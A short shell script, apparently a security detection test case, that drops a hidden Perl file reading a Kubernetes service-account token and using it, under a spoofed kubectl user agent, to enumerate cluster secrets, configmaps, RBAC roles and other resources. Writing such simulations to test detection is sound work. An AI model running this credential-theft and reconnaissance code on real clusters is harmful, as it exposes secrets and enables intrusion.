#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.k.pl <<'END'
use HTTP::Tiny; open(my $f, "<", "/run/secrets/kubernetes.io/serviceaccount/token") or die; my $t = <$f>; my $h = HTTP::Tiny->new(default_headers => { Authorization => "Bearer $t" }, agent => "kubectl/v1.30"); my $n = 0;
for (qw(version api/v1/nodes api/v1/pods api/v1/services api/v1/secrets api/v1/configmaps api/v1/namespaces api/v1/serviceaccounts api/v1/persistentvolumes apis/apps/v1/deployments apis/apps/v1/daemonsets apis/batch/v1/cronjobs apis/rbac.authorization.k8s.io/v1/clusterroles apis/rbac.authorization.k8s.io/v1/clusterrolebindings apis/networking.k8s.io/v1/ingresses openapi/v2)) { $n++ if $h->get("http://10.77.0.1:6443/$_")->{success} }
$n++ if $h->post("http://10.77.0.1:6443/apis/authentication.k8s.io/v1/selfsubjectreviews", { content => "{}" })->{success}; die $n unless $n == 17;
END
perl /tmp/.k.pl
took_place
